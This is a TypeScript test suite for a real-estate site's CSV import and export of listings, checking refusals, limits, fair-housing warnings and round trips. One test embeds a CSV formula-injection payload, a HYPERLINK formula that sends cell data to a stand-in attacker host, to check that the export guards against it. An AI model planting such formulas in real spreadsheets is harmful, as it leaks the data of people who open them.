// The staff CSV (docs/behaviour.md §25) on each database: the dry run's line numbers and every kind
// of refusal, the all-or-nothing import with history, the file limits, and export → import round
// trip.
import fs from "node:fs/promises";
import os from "node:os";
import path from "node:path";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { listingKey } from "~/domain/listing";
import { CSV_COLUMNS, CSV_MAX_BYTES, CSV_MAX_ROWS } from "~/domain/listing-csv";
import { DiskImageStore } from "~/features/images/storage.server";
import type { Db } from "~/shared/db.server";
import { HttpError } from "~/shared/http-error.server";
import { dbTargets } from "../../../tests/support/db-targets";
import { parseStrictCsv } from "../../../tests/support/strict-csv";
import { exportCsv } from "./csv-export.server";
import { checkCsv, readyToImport } from "./csv-import.server";
import { listHistory } from "./history.server";
import { ListingWrites } from "./listing-writes.server";
import { getListing, insertListing } from "./queries.server";

const HEADER = CSV_COLUMNS.join(",");
const bytes = (text: string) => new TextEncoder().encode(text);
/** A row in the export's column order from the cells given by name. */
const row = (cells: Partial<Record<(typeof CSV_COLUMNS)[number], string>>) =>
  CSV_COLUMNS.map((c) => {
    const v = cells[c] ?? "";
    return /[",\n\r]/.test(v) ? `"${v.replaceAll('"', '""')}"` : v;
  }).join(",");
const file = (...rows: string[]) => bytes([HEADER, ...rows].join("\r\n"));

/** The HttpError a call fails with (the test fails if it does not). */
async function refusal(promise: Promise<unknown>): Promise<HttpError> {
  const error = await promise.then(
    () => null,
    (e: unknown) => e,
  );
  if (!(error instanceof HttpError)) throw new Error(`expected an HttpError, got ${String(error)}`);
  return error;
}

describe.each(dbTargets)("listing CSV on $name", (target) => {
  let db: Db;
  let cleanup: () => Promise<void>;
  let imageRoot: string;
  let writes: ListingWrites;
  beforeAll(async () => {
    ({ db, cleanup } = await target.open());
    imageRoot = await fs.mkdtemp(path.join(os.tmpdir(), "csv-images-"));
    writes = new ListingWrites(db, new DiskImageStore(imageRoot));
  });
  afterAll(async () => {
    await cleanup?.();
    await fs.rm(imageRoot, { recursive: true, force: true });
  });
  beforeEach(async () => {
    await db.query("DELETE FROM listings");
    await db.query("DELETE FROM listing_history");
    await insertListing(db, "properties", "1-taken-street", {
      address: "1 Taken Street",
      bedrooms: 2,
      bathrooms: 1,
      description: 'Bright, "quiet"\nand close to the park',
      image_urls: ["/images/properties/1-taken-street/image_1_0.jpg"],
      thumbnail_description: "",
      property_type: "Residential",
      currently_available: true,
      price: "1500",
      reserve_url: null,
      city: "Arlington",
      state: "VA",
      zip: "22201",
    });
  });

  it("passes good rows of both kinds, with the facts parsed as the forms do", async () => {
    const check = await checkCsv(
      db,
      file(
        row({
          collection: "properties",
          address: "2 New Road",
          bedrooms: "3",
          price: "2100",
          currently_available: "TRUE",
          state: "Virginia",
          square_feet: "1,200",
          pets: "cats",
          available_from: "2027-03-01",
          showings: "By request only",
        }),
        row({
          collection: "newConstruction",
          address: "3 Frame Row",
          property_type: "Commercial",
          zip: "22201-1234",
          showings: "none",
        }),
      ),
    );
    expect(check.refused).toEqual([]);
    expect(check.ready.map((r) => [r.line, r.collection, r.id])).toEqual([
      [2, "properties", "2-new-road"],
      [3, "newConstruction", "3-frame-row"],
    ]);
    expect(check.ready[0]?.fields).toMatchObject({
      bedrooms: 3,
      price: "2100",
      currently_available: true,
      state: "VA",
      square_feet: 1200,
      pets: "cats",
      available_from: "2027-03-01",
      showings: "request",
    });
    expect(check.ready[1]?.fields).toMatchObject({
      showings: "none",
      property_type: "Commercial",
      price: null,
      currently_available: null,
    });
  });

  it("runs the 'Listing check' on every ready row; its warnings refuse nothing", async () => {
    const check = await checkCsv(
      db,
      file(
        row({
          collection: "properties",
          address: "4 Worded Way",
          description: "Perfect for singles. Write to rent@example.com",
          bedrooms: "1",
          bathrooms: "1",
          price: "1500",
          city: "Arlington",
          state: "VA",
          zip: "22201",
        }),
        row({ collection: "newConstruction", address: "5 Frame Row", description: "No kids." }),
      ),
    );
    expect(check.refused).toEqual([]);
    expect(check.ready.map((r) => [r.line, r.warnings])).toEqual([
      [
        2,
        [
          'Fair housing: "Perfect for singles" may discourage families. Describe the property, not the people.',
          "Put phone numbers and e-mail addresses in the contact panel, not the description.",
        ],
      ],
      [
        3,
        ['Fair housing: "No kids" may discourage families. Describe the property, not the people.'],
      ],
    ]);
  });

  it("refuses each bad row with its line in the file (the header is line 1) and the reason", async () => {
    const check = await checkCsv(
      db,
      file(
        row({ collection: "properties", address: "10 Good Lane" }), // 2
        row({ collection: "properties", address: "11 Type Lane", property_type: "Castle" }), // 3
        row({ collection: "properties", address: "12 Number Lane", bedrooms: "three" }), // 4
        row({ collection: "properties", address: "1 TAKEN STREET" }), // 5: taken already
        row({ collection: "houseboats", address: "13 Kind Lane" }), // 6
        row({ collection: "properties", address: "14 Multi Lane", description: "one\ntwo\nthree" }), // 7–9
        row({ collection: "properties", address: "10 good lane" }), // 10: same key as line 2
        row({ collection: "properties", address: "15 Zip Lane", zip: "2220" }), // 11
        "", // 12: blank, skipped
        `${row({ collection: "properties", address: "16 Extra Lane" })},surplus`, // 13
        row({ collection: "newConstruction", address: "17 Offer Row", price: "900" }), // 14
        row({ collection: "properties", address: "18 Flag Lane", currently_available: "maybe" }), // 15
        row({ collection: "newConstruction", address: "1 Taken Street" }), // 16: other kind, fine
        row({ collection: "properties", address: "19 Show Lane", showings: "weekends" }), // 17
      ),
    );
    expect(check.ready.map((r) => r.line)).toEqual([2, 7, 16]);
    expect(check.refused).toEqual([
      { line: 3, reason: "The property type must be Residential, Commercial or Vacation." },
      { line: 4, reason: "The bedrooms must be a number from 0 to 1000." },
      { line: 5, reason: "Duplicate address: Property with this address already exists!" },
      {
        line: 6,
        reason: "Unknown kind 'houseboats': the collection must be properties or newConstruction.",
      },
      { line: 10, reason: "Duplicate address: line 2 has the same address." },
      {
        line: 11,
        reason: "The ZIP code must be five digits, such as 22201 (or ZIP+4, 22201-1234).",
      },
      {
        line: 13,
        reason: `The row has ${CSV_COLUMNS.length + 1} cells; the first line names ${CSV_COLUMNS.length} columns.`,
      },
      { line: 14, reason: "A construction has no price; leave it empty." },
      { line: 15, reason: "The currently available must be true or false." },
      { line: 17, reason: "The Showings must be one of: open, request, none." },
    ]);
  });

  it("reads a header in any order with only some columns, and a byte-order mark", async () => {
    const check = await checkCsv(
      db,
      bytes("\uFEFFaddress,collection\r\n20 Short Way,properties\r\n"),
    );
    expect(check).toMatchObject({ refused: [], ready: [{ line: 2, id: "20-short-way" }] });
  });

  it("refuses a file that is no CSV of listings, with a message and nothing else", async () => {
    const cases: [Uint8Array, RegExp][] = [
      [bytes(""), /The file is empty/],
      [bytes("\uFEFF"), /The file is empty/],
      [bytes("address,bedrooms,colour\r\n1 A St,2,red\r\n"), /unknown: 'colour'/],
      [bytes("address,bedrooms\r\n1 A St,2\r\n"), /at least the columns collection and address/],
      [bytes("collection,address,address\r\n"), /names the column 'address' twice/],
      [new Uint8Array([0x50, 0x4b, 0x03, 0x04, 0, 0, 0x14, 0]), /not a CSV text file/],
      [
        new Uint8Array([...bytes("collection,address\r\nproperties,Caf"), 0xe9, 0x0d, 0x0a]),
        /not UTF-8/,
      ],
      [bytes(`${HEADER}\r\nproperties,"unclosed\r\n`), /not valid CSV/],
      [new Uint8Array(CSV_MAX_BYTES + 1).fill(0x61), /too large: at most 5 MB/],
    ];
    for (const [content, message] of cases) {
      const error = await refusal(checkCsv(db, content));
      expect(error.status).toBeLessThan(500);
      expect(error.message).toMatch(message);
    }
  });

  it(`refuses more than ${CSV_MAX_ROWS} rows, and takes exactly that many`, async () => {
    const rows = (n: number) =>
      bytes(
        [
          "collection,address",
          ...Array.from({ length: n }, (_, i) => `properties,${i} Bulk Street`),
        ].join("\n"),
      );
    expect((await refusal(checkCsv(db, rows(CSV_MAX_ROWS + 1)))).message).toMatch(
      /more than 10,000 rows/,
    );
    expect((await checkCsv(db, rows(CSV_MAX_ROWS))).ready).toHaveLength(CSV_MAX_ROWS);
  });

  it("imports nothing from a file with any refused row, and everything from a good one", async () => {
    const bad = file(
      row({ collection: "properties", address: "30 Fine Lane" }),
      row({ collection: "properties", address: "31 Bad Lane", bathrooms: "-1" }),
    );
    const error = await refusal(readyToImport(db, bad));
    expect(error.message).toBe(
      "1 row is refused (the first on line 3): nothing was imported. Correct the file and check it again.",
    );
    expect(await getListing(db, "properties", "30-fine-lane")).toBeNull();

    const good = file(
      row({
        collection: "properties",
        address: "30 Fine Lane",
        price: "1200",
        currently_available: "true",
      }),
      row({
        collection: "newConstruction",
        address: "32 Frame Row",
        photos: "https://elsewhere.example/p.jpg",
      }),
    );
    const ready = await readyToImport(db, good);
    await writes.addMany(ready, { name: "Ada", email: "ada@example.com" });
    expect(await getListing(db, "properties", "30-fine-lane")).toMatchObject({
      address: "30 Fine Lane",
      price: "1200",
      currently_available: true,
      image_urls: [],
    });
    // Photos are not imported.
    expect((await getListing(db, "newConstruction", "32-frame-row"))?.image_urls).toEqual([]);
    const history = await listHistory(db, "properties", "30-fine-lane");
    expect(history.map((h) => [h.action, h.by_email])).toEqual([["imported", "ada@example.com"]]);
  });

  it("adds none when one listing cannot be added at import time (its address taken meanwhile)", async () => {
    const ready = await readyToImport(
      db,
      file(
        row({ collection: "properties", address: "40 Race Lane" }),
        row({ collection: "properties", address: "41 Race Lane" }),
      ),
    );
    await insertListing(db, "properties", "41-race-lane", {
      ...(ready[1]?.fields as NonNullable<(typeof ready)[1]>["fields"]),
      image_urls: [],
    });
    const error = await refusal(writes.addMany(ready, null));
    expect(error.status).toBe(409);
    expect(await getListing(db, "properties", "40-race-lane")).toBeNull();
    expect(await listHistory(db, "properties", "40-race-lane")).toEqual([]);
  });

  it("exports every listing with RFC 4180 quoting, and the export is refused only as duplicates", async () => {
    await insertListing(db, "newConstruction", "50-frame-row", {
      address: "50 Frame Row",
      bedrooms: null,
      bathrooms: null,
      description: "",
      image_urls: [],
      thumbnail_description: "",
      property_type: "Vacation",
      currently_available: null,
      price: null,
      reserve_url: null,
    });
    const { csv, rows } = await exportCsv(db, (url) => `https://site.example${url}`);
    expect(rows).toBe(2);
    const records = parse(csv, { columns: true }) as Record<string, string>[];
    expect(Object.keys(records[0] ?? {})).toEqual([...CSV_COLUMNS]);
    expect(records).toMatchObject([
      {
        collection: "properties",
        address: "1 Taken Street",
        bedrooms: "2",
        description: 'Bright, "quiet"\nand close to the park',
        currently_available: "true",
        price: "1500",
        zip: "22201",
        photos: "https://site.example/images/properties/1-taken-street/image_1_0.jpg",
      },
      {
        collection: "newConstruction",
        address: "50 Frame Row",
        currently_available: "",
        price: "",
      },
    ]);
    // Round trip: the same file, checked against the same listings, is all duplicates.
    const check = await checkCsv(db, bytes(csv));
    expect(check.ready).toEqual([]);
    expect(check.refused.map((r) => r.line)).toEqual([2, 4]);
  });

  it("guards formulas and quotes photo lines, and the import reads its own export back unchanged", async () => {
    await db.query("DELETE FROM listings");
    const formula = '=HYPERLINK("http://attacker.example/?x="&A1,"Click")';
    const listings = [
      {
        address: "7 Formula Court",
        description: `${formula}\n- a bullet`,
        thumbnail_description: "'=already guarded by hand",
        price: "-1500",
        photos: ["a", "b", "c"],
      },
      {
        address: "8 Plain Street",
        description: "'just an apostrophe",
        thumbnail_description: "@home",
        price: "+2000",
        photos: ["d", "e"],
      },
    ];
    for (const l of listings) {
      await insertListing(db, "properties", listingKey(l.address), {
        address: l.address,
        bedrooms: 3,
        bathrooms: 2,
        description: l.description,
        image_urls: l.photos.map((p) => `/images/properties/x/${p}.jpg`),
        thumbnail_description: l.thumbnail_description,
        property_type: "Residential",
        currently_available: true,
        price: l.price,
        reserve_url: null,
      });
    }
    const { csv } = await exportCsv(db, (url) => `https://site.example${url}`);
    // A strict RFC 4180 reader (as spreadsheets read it) sees one row per listing.
    const records = parseStrictCsv(csv);
    expect(records).toHaveLength(1 + listings.length);
    for (const cell of records.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    const at = (column: (typeof CSV_COLUMNS)[number]) => CSV_COLUMNS.indexOf(column);
    expect(records[1]?.[at("description")]).toBe(`'${formula}\n- a bullet`);
    expect(records[1]?.[at("thumbnail_description")]).toBe("''=already guarded by hand");
    expect(records[1]?.[at("photos")]?.split("\n")).toHaveLength(3);
    expect(records[2]?.[at("description")]).toBe("'just an apostrophe");

    // Read back into an empty table: every field as it was stored.
    const stored = await Promise.all(
      listings.map((l) => getListing(db, "properties", listingKey(l.address))),
    );
    await db.query("DELETE FROM listings");
    const ready = await readyToImport(db, bytes(csv));
    expect(ready).toHaveLength(listings.length);
    for (const [i, row] of ready.entries()) {
      const {
        image_urls: _photos,
        thumbnail_image_url: _thumb,
        ...fields
      } = row.fields as Record<string, unknown>;
      expect(stored[i]).toMatchObject(fields);
      expect(fields).toMatchObject({
        description: listings[i]?.description,
        thumbnail_description: listings[i]?.thumbnail_description,
        price: listings[i]?.price,
      });
    }
  });
});
